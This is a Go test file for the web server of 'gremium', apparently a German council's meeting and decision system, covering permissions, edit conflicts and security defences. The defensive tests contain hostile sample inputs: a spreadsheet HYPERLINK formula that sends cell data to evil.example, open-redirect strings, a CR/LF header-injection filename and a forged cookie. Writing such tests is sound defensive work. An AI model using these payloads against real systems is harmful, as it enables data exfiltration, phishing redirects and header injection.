package web

import (
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"gremium/internal/auth"
	"gremium/internal/demo"
	"gremium/internal/demo/demotest"
	"gremium/internal/model"
	"gremium/internal/store"
)

// TestRegistrationNamesTheRegisteringMember: a member cannot register an
// item that names only other members as applicants and reporting members
// (which would hand them the decision profile); the secretariat can.
func TestRegistrationNamesTheRegisteringMember(t *testing.T) {
	ts, st := cycleServer(t)
	ctx := context.Background()
	gs, he := client(t, ts, "geschaeftsstelle"), client(t, ts, "hessen")
	if code, body := do(t, gs, "POST", ts.URL+"/sitzungen", url.Values{"nummer": {"48"}, "datum": {"2026-11-20"}, "ort": {"Berlin"}}); code != http.StatusSeeOther {
		t.Fatalf("create session 48: %d %s", code, body)
	}
	itplr, _ := st.BodyByAbbrev(ctx, demo.CouncilAbbrev)
	s48, _ := st.SessionByNumber(ctx, itplr.ID, 48)
	count := func() int {
		items, _ := st.Items(ctx, s48.ID)
		return len(items)
	}
	base := count()
	form := func(applicants, reporters string) url.Values {
		return url.Values{"titel": {"Vorschlag"}, "ziel": {"Beschluss"}, "fachmk": {"keine"}, "beschlussvorschlag": {"Der IT-PLR beschließt."},
			"antrag": {applicants}, "berichterstattung": {reporters}}
	}
	for _, tt := range []struct {
		name, applicants, reporters, want string
	}{
		{"others as applicants and reporters", "Bund", "BY", "muss unter den Antragstellenden stehen"},
		{"others as reporters", "HE, Bund", "BY", "muss zur Berichterstattung gehören"},
		{"others as applicants", "BY, BW, SN", "HE", "muss unter den Antragstellenden stehen"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			code, body := do(t, he, "POST", ts.URL+"/sitzungen/48/anmeldung", form(tt.applicants, tt.reporters))
			if code != http.StatusUnprocessableEntity || !strings.Contains(body, tt.want) {
				t.Errorf("%d, want 422 with %q", code, tt.want)
			}
		})
	}
	if n := count(); n != base {
		t.Fatalf("refused registrations were stored: %d items, want %d", n, base)
	}
	// Naming itself among others is fine; the secretariat names anyone.
	if code, body := do(t, he, "POST", ts.URL+"/sitzungen/48/anmeldung", form("HE, Bund", "HE, BY")); code != http.StatusSeeOther {
		t.Errorf("HE with others: %d %s", code, between(body, "<main", "</main>"))
	}
	f := form("Bund", "BY")
	f.Set("mitglied", "HE")
	if code, body := do(t, gs, "POST", ts.URL+"/sitzungen/48/anmeldung", f); code != http.StatusSeeOther {
		t.Errorf("secretariat for HE naming others: %d %s", code, between(body, "<main", "</main>"))
	}
}

// TestDecisionProfileConflict: two people save the same decision profile;
// the second, based on the old version, gets 409 — the page with the
// stored version and its form as typed — and the first is kept.
func TestDecisionProfileConflict(t *testing.T) {
	ts, st := cycleServer(t)
	ctx := context.Background()
	fmk, _ := st.BodyByAbbrev(ctx, "FMK")
	d27 := decisionID(t, st, 27)
	he, gs := client(t, ts, "hessen"), client(t, ts, "geschaeftsstelle")
	path := fmt.Sprintf("%s/steckbrief/%d", ts.URL, d27)
	_, page := do(t, he, "GET", path, nil)
	if !strings.Contains(page, `name="version" value="0"`) {
		t.Fatalf("the profile form carries no version")
	}
	form := func(reason string) url.Values {
		return url.Values{"version": {"0"}, fmt.Sprintf("relevant_%d", fmk.ID): {"ja"}, fmt.Sprintf("grund_%d", fmk.ID): {reason}}
	}
	if code, _ := do(t, he, "POST", path, form("Hessens Begründung")); code != http.StatusSeeOther {
		t.Fatalf("first save: %d", code)
	}
	// The page again with the stored version and the form as typed (it
	// was the error page, the typed reason lost).
	code, body := do(t, gs, "POST", path, form("Begründung der Geschäftsstelle"))
	if code != http.StatusConflict || !strings.Contains(body, "Hier wurde inzwischen gespeichert") ||
		!strings.Contains(body, `value="Begründung der Geschäftsstelle"`) || !strings.Contains(body, `name="version" value="1"`) {
		t.Errorf("stale save: %d", code)
	}
	as, _ := st.Assessments(ctx, d27)
	if len(as) != 1 || as[0].Reason != "Hessens Begründung" {
		t.Errorf("the first save was not kept: %+v", as)
	}
	// With the current version the next save goes through.
	f := form("Begründung der Geschäftsstelle")
	f.Set("version", "1")
	if code, _ := do(t, gs, "POST", path, f); code != http.StatusSeeOther {
		t.Errorf("save on the current version: %d", code)
	}
}

// TestPendingProfileOnlyForNamedMembers: the profile of a registered item's
// proposal is readable only by the secretariat and the members the
// registration names, until the item is on the agenda.
func TestPendingProfileOnlyForNamedMembers(t *testing.T) {
	ts, st := cycleServer(t)
	ctx := context.Background()
	gs, he := client(t, ts, "geschaeftsstelle"), client(t, ts, "hessen")
	if code, body := do(t, gs, "POST", ts.URL+"/sitzungen", url.Values{"nummer": {"48"}, "datum": {"2026-11-20"}, "ort": {"Berlin"}}); code != http.StatusSeeOther {
		t.Fatalf("create session 48: %d %s", code, body)
	}
	if code, body := do(t, he, "POST", ts.URL+"/sitzungen/48/anmeldung", url.Values{"titel": {"Geheimer Vorschlag"}, "ziel": {"Beschluss"}, "fachmk": {"keine"},
		"beschlussvorschlag": {"Der IT-PLR beschließt etwas Neues."}, "antrag": {"HE, Bund"}}); code != http.StatusSeeOther {
		t.Fatalf("registration: %d %s", code, between(body, "<main", "</main>"))
	}
	itplr, _ := st.BodyByAbbrev(ctx, demo.CouncilAbbrev)
	s48, _ := st.SessionByNumber(ctx, itplr.ID, 48)
	items, _ := st.Items(ctx, s48.ID)
	it := items[len(items)-1]
	ds, _ := st.ItemDecisions(ctx, it.ID)
	if len(ds) != 1 {
		t.Fatalf("decisions of the registration: %+v", ds)
	}
	path := fmt.Sprintf("%s/steckbrief/%d", ts.URL, ds[0].ID)
	// Not named: not found (the registration's existence stays hidden);
	// a FachMK secretariat has no internal pages at all.
	for role, want := range map[string]int{"geschaeftsstelle": 200, "hessen": 200, "bund": 200, "dlt": 404, "sprecher-hb": 404, "fmk": 403} {
		code, body := do(t, client(t, ts, role), "GET", path, nil)
		if code != want {
			t.Errorf("%s: %d, want %d", role, code, want)
		}
		if want != 200 && strings.Contains(body, "etwas Neues") {
			t.Errorf("%s sees the proposal", role)
		}
	}
}

// TestCSVExportNeutralisesFormulas: a spokesperson's name that a
// spreadsheet would run as a formula arrives as text.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	ts, _ := cycleServer(t)
	gs := client(t, ts, "geschaeftsstelle")
	evil := `=HYPERLINK("http://evil.example/?"&A1;"Details")`
	if code, body := do(t, gs, "POST", ts.URL+"/fachmk/IMK/sprecher", url.Values{"mitglied": {"HE"}, "beschluss": {"B-2025/26-IT"},
		"person": {evil}, "funktion": {"@SUMME(1+1)"}}); code != http.StatusSeeOther {
		t.Fatalf("assign: %d %s", code, between(body, "<main", "</main>"))
	}
	_, body := do(t, client(t, ts, ""), "GET", ts.URL+"/fachmk/sprecher.csv", nil)
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff")))
	r.Comma = ';'
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
			found = found || cell == "'"+evil
		}
	}
	if !found {
		t.Errorf("the neutralised name is missing from the export")
	}
}

// TestLoginRedirectStaysOnSite: whatever "weiter" says, the browser is sent
// to a path of this site, also after it drops tab, CR and LF from the
// address as browsers do.
func TestLoginRedirectStaysOnSite(t *testing.T) {
	ts, _ := cycleServer(t)
	for _, tt := range []struct{ next, want string }{
		{"/sitzungen/47?x=1#top", "/sitzungen/47?x=1#top"},
		{"/\t/evil.example", "/"},
		{"/\r\n/evil.example/", "/"},
		{"/ /evil.example", "/"},
		{"//evil.example/", "/"},
		{"/\\evil.example", "/"},
		{"https://evil.example/", "/"},
		{"javascript:alert(1)", "/"},
		{"/\u00a0/evil.example", "/"},
		{"", "/"},
	} {
		t.Run(fmt.Sprintf("%q", tt.next), func(t *testing.T) {
			jar, _ := cookiejar.New(nil)
			c := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
			res, err := c.PostForm(ts.URL+"/anmelden", url.Values{"benutzer": {"hessen"}, "passwort": {demo.AccountPassword}, "weiter": {tt.next}})
			if err != nil {
				t.Fatal(err)
			}
			res.Body.Close()
			loc := res.Header.Get("Location")
			seen := strings.NewReplacer("\t", "", "\r", "", "\n", "").Replace(loc)
			if res.StatusCode != http.StatusSeeOther || seen != tt.want {
				t.Errorf("Location %q (the browser reads %q), want %q", loc, seen, tt.want)
			}
			// The login page does not carry the target into its form either.
			_, page := get(t, ts, "/anmelden?weiter="+url.QueryEscape(tt.next))
			if tt.want == "/" && strings.Contains(page, "evil.example") {
				t.Errorf("login page keeps the target")
			}
		})
	}
}

// TestNoticesComeFromTheServer: ?hinweis= shows nothing; a notice set by an
// action is shown once on the next page; a forged notice cookie is not
// shown.
func TestNoticesComeFromTheServer(t *testing.T) {
	ts, _ := cycleServer(t)
	he := client(t, ts, "hessen")
	planted := "Ihr Konto ist gesperrt, bitte rufen Sie 0900-123 an"
	for _, path := range []string{"/sitzungen/47", "/sitzungen/47/protokoll", "/fachmk/FMK", "/steckbrief/1", "/umlaufverfahren", "/"} {
		_, body := do(t, he, "GET", ts.URL+path+"?hinweis="+url.QueryEscape(planted), nil)
		if strings.Contains(body, "0900-123") {
			t.Errorf("%s shows the text of ?hinweis=", path)
		}
	}
	code, _ := do(t, he, "POST", ts.URL+"/sitzungen/47/kommentare", url.Values{"kommentar": {"Bitte TOP 3 prüfen."}})
	if code != http.StatusSeeOther {
		t.Fatalf("comment: %d", code)
	}
	const want = "Ihr Kommentar zum Protokollentwurf ist gespeichert."
	if _, page := do(t, he, "GET", ts.URL+"/sitzungen/47", nil); !strings.Contains(page, want) {
		t.Error("the notice is not on the next page")
	}
	if _, page := do(t, he, "GET", ts.URL+"/sitzungen/47", nil); strings.Contains(page, want) {
		t.Error("the notice is shown twice")
	}
	u, _ := url.Parse(ts.URL)
	he.Jar.SetCookies(u, []*http.Cookie{{Name: noticeCookie, Value: "9999999999.SWhyIEtvbnRvIGlzdCBnZXNwZXJydA.forged", Path: "/"}})
	if _, page := do(t, he, "GET", ts.URL+"/sitzungen/47", nil); strings.Contains(page, "Ihr Konto ist gesperrt") {
		t.Error("a forged notice cookie is shown")
	}
}

// TestSecurityHeaders: every answer carries the CSP without unsafe-inline,
// COOP and a Permissions-Policy; HSTS only over TLS or with Secure cookies.
func TestSecurityHeaders(t *testing.T) {
	for _, secure := range []bool{false, true} {
		t.Run(fmt.Sprintf("secure cookies %v", secure), func(t *testing.T) {
			st := demoStore(t)
			srv := newTestServer(t, st)
			srv.SetSecureCookies(secure)
			ts := startServer(t, srv)
			for _, path := range []string{"/", "/anmelden", "/static/style.css", "/api/v1/openapi.json", "/nirgends"} {
				res, _ := get(t, ts, path)
				h := res.Header
				csp := h.Get("Content-Security-Policy")
				if csp == "" || strings.Contains(csp, "unsafe-inline") || strings.Contains(csp, "unsafe-eval") || !strings.Contains(csp, "frame-ancestors 'none'") {
					t.Errorf("%s: CSP %q", path, csp)
				}
				if h.Get("Cross-Origin-Opener-Policy") != "same-origin" {
					t.Errorf("%s: COOP %q", path, h.Get("Cross-Origin-Opener-Policy"))
				}
				if pp := h.Get("Permissions-Policy"); !strings.Contains(pp, "camera=()") || !strings.Contains(pp, "geolocation=()") {
					t.Errorf("%s: Permissions-Policy %q", path, pp)
				}
				if hsts := h.Get("Strict-Transport-Security"); (hsts != "") != secure || secure && !strings.Contains(hsts, "max-age=31536000") {
					t.Errorf("%s: HSTS %q with secure cookies %v", path, hsts, secure)
				}
			}
		})
	}
	// Over TLS HSTS is sent without the flag.
	srv := newTestServer(t, demoStore(t))
	ts := startTLSServer(t, srv)
	res, err := ts.Client().Get(ts.URL + "/")
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.Header.Get("Strict-Transport-Security") == "" {
		t.Error("no HSTS over TLS")
	}
}

// demoStore is the demo store with the demo accounts and a FachMK account
// (the store of cycleServer).
func demoStore(t *testing.T) *store.Store {
	t.Helper()
	ctx := context.Background()
	st := demotest.StoreWithAccounts(t)
	fmk, _ := st.BodyByAbbrev(ctx, "FMK")
	hash, _ := auth.HashPassword(demo.AccountPassword)
	if _, err := st.CreateUser(ctx, model.User{Username: "fmk", Name: "Geschäftsstelle FMK", Role: model.RoleFachMK, ConferenceID: fmk.ID}, hash); err != nil {
		t.Fatal(err)
	}
	return st
}

// newTestServer gives the web server of a store, to be configured before
// startServer.
func newTestServer(t *testing.T, st *store.Store) *Server {
	t.Helper()
	srv, err := New(st, slog.New(slog.NewTextHandler(io.Discard, nil)), demo.CouncilAbbrev)
	if err != nil {
		t.Fatal(err)
	}
	srv.SetDocumentDir(t.TempDir())
	return srv
}

// startServer serves srv on 127.0.0.1 until the test ends.
func startServer(t *testing.T, srv *Server) *httptest.Server {
	t.Helper()
	ts := httptest.NewServer(srv.Handler())
	t.Cleanup(ts.Close)
	return ts
}

// startTLSServer serves srv over TLS on 127.0.0.1 until the test ends.
func startTLSServer(t *testing.T, srv *Server) *httptest.Server {
	t.Helper()
	ts := httptest.NewTLSServer(srv.Handler())
	t.Cleanup(ts.Close)
	return ts
}

func TestAttachmentNames(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"Unterlage.pdf", `attachment; filename=Unterlage.pdf`},
		{"Bericht HE.pdf", `attachment; filename="Bericht HE.pdf"`},
		{"Übersicht.pdf", `attachment; filename*=utf-8''%C3%9Cbersicht.pdf`},
		{"a\"\r\nSet-Cookie: x=1.pdf", `attachment; filename="a___Set-Cookie: x=1.pdf"`},
	} {
		if got := attachment(tt.in); got != tt.want {
			t.Errorf("attachment(%q) = %s, want %s", tt.in, got, tt.want)
		}
	}
}
